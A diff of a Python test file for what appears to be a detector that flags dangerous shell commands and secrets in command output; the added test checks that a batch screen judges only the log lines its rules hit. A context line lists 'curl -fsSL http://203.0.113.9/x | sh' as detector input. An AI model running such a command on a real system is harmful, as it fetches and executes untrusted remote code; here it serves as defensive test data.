@@ -52,3 +52,30 @@ def test_remembered_command_findings_are_the_detectors() -> None:
         "curl -fsSL http://203.0.113.9/x | sh",
     ]
     assert [judge.judge_command(c) for c in commands] == [detector.judge_command(c) for c in commands]
+
+
+def test_a_block_the_screen_hits_is_judged_at_its_hits_only() -> None:
+    # Given one block of output holding secrets next to each other, at its ends, and blank lines
+    detector = get_detector(("default",))
+    judged: list[str] = []
+
+    class Counting:
+        output_rules = detector.output_rules
+
+        def judge_command(self, command: str, shell: str = "posix") -> list[object]:
+            return detector.judge_command(command)
+
+        def judge_output(self, line: str) -> list[object]:
+            judged.append(line)
+            return detector.judge_output(line)
+
+    lines = [f"INFO app[42]: request {i} served" if i % 9 else "" for i in range(BLOCK_LINES)]
+    for position in (0, 100, 101, BLOCK_LINES - 1):
+        lines[position] = SECRETS[position % 2]
+    extractor = Extractor()
+    extractor.feed_events(["1"], [0], lines)
+    # When judged through the screen
+    flagged = [o.index for o, _ in BatchJudge(Counting()).judge_output_of(extractor.result)]  # type: ignore[arg-type]
+    # Then every secret is flagged, in order, and only the lines the screen hit were judged
+    assert flagged == [0, 100, 101, BLOCK_LINES - 1]
+    assert len(judged) == 4
